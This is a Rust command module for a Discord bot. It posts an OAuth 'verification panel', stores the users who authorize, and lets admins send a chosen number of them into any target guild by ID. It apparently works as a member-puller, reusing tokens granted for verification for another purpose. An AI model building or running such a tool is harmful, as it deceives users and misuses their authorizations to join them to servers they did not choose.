// src/commands.rs
use poise::serenity_prelude as serenity;
use tracing::info;

use crate::audit;
use crate::error::BotError;
use crate::store::TokenStore;
use crate::{Context, Error};

/// Check if the bot is running
#[poise::command(prefix_command, slash_command)]
pub async fn ping(ctx: Context<'_>) -> Result<(), Error> {
    info!("Ping command called by {}", ctx.author().name);
    ctx.send(poise::CreateReply::default()
        .content("Pong! Bot is working!")
        .ephemeral(true))
        .await?;
    Ok(())
}

/// Show help information
#[poise::command(prefix_command, slash_command)]
pub async fn help(ctx: Context<'_>) -> Result<(), Error> {
    let embed = serenity::CreateEmbed::new()
        .title("Bot Commands")
        .description("Available commands:")
        .field("/ping", "Check if the bot is running", false)
        .field("/setup_auth", "Post the verification panel in this channel (Admin)", false)
        .field("/send_users", "Send stored users to a target guild (Admin)", false)
        .field("/stored_users", "List stored authorized users (Admin)", false)
        .color(0x3498db);

    ctx.send(poise::CreateReply::default().embed(embed).ephemeral(true)).await?;
    Ok(())
}

/// Post the verification panel with the OAuth link button
#[poise::command(
    slash_command,
    guild_only,
    required_permissions = "ADMINISTRATOR"
)]
pub async fn setup_auth(ctx: Context<'_>) -> Result<(), Error> {
    let guild_id = ctx.guild_id().ok_or("This command can only be used in a guild")?;

    let message = audit::panel_message(&ctx.data().oauth, guild_id);
    ctx.channel_id()
        .send_message(&ctx.serenity_context().http, message)
        .await?;

    ctx.send(poise::CreateReply::default()
        .content("Verification panel created!")
        .ephemeral(true))
        .await?;

    info!("Verification panel created in guild {} by {}", guild_id, ctx.author().name);
    Ok(())
}

/// Send stored users to a target guild and report the outcome
#[poise::command(
    slash_command,
    guild_only,
    required_permissions = "ADMINISTRATOR"
)]
pub async fn send_users(
    ctx: Context<'_>,
    #[description = "How many stored users to send"] count: u32,
    #[description = "Target guild ID"] guild_id: String,
) -> Result<(), Error> {
    let target: u64 = guild_id
        .trim()
        .parse()
        .map_err(|_| "Target guild ID must be a numeric Discord ID")?;

    // Runs take roughly one second per user, so acknowledge first
    ctx.defer().await?;

    let handle = match ctx.data().worker.try_start(target, count as usize) {
        Ok(handle) => handle,
        Err(BotError::RunInProgress) => {
            ctx.send(poise::CreateReply::default()
                .content("⏳ A send run is already in progress. Wait for it to finish.")
                .ephemeral(true))
                .await?;
            return Ok(());
        }
        Err(e) => return Err(e.into()),
    };

    let report = handle.wait().await.unwrap_or_default();

    let embed = serenity::CreateEmbed::new()
        .title("✅ Send Run Finished")
        .description(format!("Target guild: `{}`", target))
        .field("Attempted", report.attempted.to_string(), true)
        .field("Succeeded", report.succeeded.to_string(), true)
        .field("Failed", report.failed.to_string(), true)
        .field("Removed (revoked tokens)", report.removed.to_string(), true)
        .color(if report.failed == 0 { 0x00ff00 } else { 0xffaa00 });

    ctx.send(poise::CreateReply::default().embed(embed)).await?;
    Ok(())
}

/// List stored authorized users
#[poise::command(slash_command, required_permissions = "ADMINISTRATOR")]
pub async fn stored_users(
    ctx: Context<'_>,
    #[description = "Maximum entries to show"] limit: Option<u32>,
) -> Result<(), Error> {
    let limit = limit.unwrap_or(20).min(50) as usize;

    let total = ctx.data().store.count().await?;
    let users = ctx.data().store.list(limit).await?;

    let listing = if users.is_empty() {
        "No users stored yet.".to_string()
    } else {
        users
            .iter()
            .map(|u| {
                format!(
                    "• {} ({}) — authorized {}",
                    u.username,
                    u.id,
                    u.created_at.format("%Y-%m-%d %H:%M UTC")
                )
            })
            .collect::<Vec<_>>()
            .join("\n")
    };

    let embed = serenity::CreateEmbed::new()
        .title("Stored Users")
        .description(listing)
        .footer(serenity::CreateEmbedFooter::new(format!(
            "Showing {} of {} users",
            users.len(),
            total
        )))
        .color(0x3498db);

    ctx.send(poise::CreateReply::default().embed(embed).ephemeral(true)).await?;
    Ok(())
}
